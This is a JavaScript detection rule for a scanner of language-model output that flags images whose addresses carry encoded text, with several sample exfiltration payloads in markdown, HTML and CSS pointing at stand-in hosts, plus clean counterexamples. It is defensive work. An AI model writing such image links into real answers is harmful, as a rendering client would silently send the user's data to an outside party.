import { defineRule } from '../rule.js';

export default defineRule({
  id: 'exfiltration/encoded-in-image',
  title: 'Loads an image whose address holds encoded text',
  scanner: 'output-payload',
  detector: 'structural',
  severity: 'critical',
  phase: 'actions_on_objective',
  tags: ['LLM02:2025', 'LLM05:2025', 'AML.T0077', 'AML.T0086'],
  why: 'A client that renders the answer calls the address at once, and its owner decodes what the model was made to write into it.',
  fix: 'Do not render it. Load images from known hosts only.',
  surfaces: ['output', 'tool-call'],
  match: [
    '![ok](https://img.example/p.png?d=dGhlIG1lZXRpbmcgaXMgYXQgbm9vbiBpbiByb29tIDQ)',
    '<img src="https://a.example/x?q=746865206d656574696e67206973206174206e6f6f6e20696e20726f6f6d2034">',
    '![a][b]\n\n[b]: https://a.example/i/dGhlIG1lZXRpbmcgaXMgYXQgbm9vbiBpbiByb29tIDQ',
    '<div style="background:url(https://a.example/b?x=dGhlIG1lZXRpbmcgaXMgYXQgbm9vbiBpbiByb29tIDQ)">',
  ],
  clean: [
    ['![logo](https://cdn.example/logo.png?v=20240501&w=640&fit=crop)', 'a version and a size'],
    [
      '![photo](https://cdn.example/p.jpg?sig=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855)',
      'a signature',
    ],
    [
      '![chart](https://quickchart.io/chart?c=dGhlIG1lZXRpbmcgaXMgYXQgbm9vbiBpbiByb29tIDQ)',
      'a service that draws what it is told',
    ],
    [
      'Write `![ok](https://img.example/p.png?d=dGhlIG1lZXRpbmcgaXMgYXQgbm9vbiBpbiByb29tIDQ)` in the file.',
      'shown as code, hence not loaded',
    ],
  ],
});
